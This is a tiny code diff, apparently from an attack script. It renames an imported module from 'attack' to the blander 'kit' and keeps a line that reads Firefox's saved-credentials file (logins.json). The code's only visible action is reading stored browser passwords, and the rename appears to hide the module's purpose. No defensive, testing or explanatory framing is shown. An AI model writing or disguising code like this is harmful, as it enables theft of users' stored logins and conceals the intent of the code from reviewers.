@@ -1,3 +1,3 @@
-from attack import *
+from kit import *
 
 read_any(".mozilla/firefox/logins.json")
